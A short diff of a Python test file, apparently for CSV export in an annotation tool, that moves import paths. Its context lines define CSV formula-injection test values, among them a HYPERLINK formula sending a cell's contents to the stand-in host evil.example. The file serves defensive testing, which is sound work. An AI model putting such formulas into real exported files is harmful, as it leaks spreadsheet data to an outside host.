@@ -10,9 +10,10 @@ from pathlib import Path
 import pytest
 from conftest import REPOSITORY
 
-from agreement.report.csv import _table
-from annotator.services import checking_output, flags
-from prelabel.cli import output
+from agreement.report.csv.report import _table
+from annotator.checks import report as checking_output
+from annotator.cli.prelabel import output
+from annotator.gold import flags
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 NASTY = (FORMULA, "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\uff1d1", '=1"\n=2', "a,=1")
